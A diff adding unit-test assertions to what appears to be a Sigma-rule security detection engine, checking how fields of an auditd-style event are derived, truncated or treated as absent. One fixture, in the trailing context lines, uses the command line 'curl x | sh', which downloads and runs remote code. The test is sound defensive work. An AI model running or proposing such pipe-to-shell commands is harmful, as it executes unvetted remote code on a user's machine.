@@ -719,6 +719,33 @@ static void test_canonical_event(void **state) {
     assert_string_equal(h[0].title, "file");
     json_decref(ev);
 
+    /* Field by field through the accessor: fallbacks and derived values. */
+    ev = json_loads("{\"v\":1,\"id\":\"x\",\"kind\":\"network\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
+                    "\"process\":{\"path\":\"/opt/tools/a-very-long-program-name\",\"argv\":[\"x\"]},"
+                    "\"parent\":{\"pid\":77},\"network\":{\"direction\":\"inbound\"},"
+                    "\"raw\":\"type=SYSCALL msg=audit(1.2:3): key=(null)\"}", 0, &je);
+    assert_non_null(ev);
+    sigma_view_from_event(&v, &ctx, ev);
+    size_t len;
+    const char *val = v.get(v.ctx, "ParentProcessId", &len);
+    assert_non_null(val);
+    assert_string_equal(val, "77");                              /* parent.pid fallback */
+    val = v.get(v.ctx, "comm", &len);
+    assert_non_null(val);
+    assert_int_equal(len, 15);                                   /* cut as the kernel does */
+    assert_memory_equal(val, "a-very-long-pro", 15);
+    val = v.get(v.ctx, "Initiated", &len);
+    assert_non_null(val);
+    assert_string_equal(val, "false");
+    assert_null(v.get(v.ctx, "key", &len));                      /* (null) is absent */
+    assert_null(v.get(v.ctx, "a1", &len));
+    assert_null(v.get(v.ctx, "a-1", &len));
+    assert_null(v.get(v.ctx, "User", &len));
+    val = v.get(v.ctx, "type", &len);
+    assert_string_equal(val, "SYSCALL");
+    assert_string_equal(v.category, "network_connection");
+    json_decref(ev);
+
     /* A bare command line: no OS, no service; argv-less is fine. */
     ev = json_loads("{\"v\":1,\"id\":\"cmdline:1\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"cmdline\"},"
                     "\"process\":{\"cmdline\":\"curl x | sh\"}}", 0, &je);
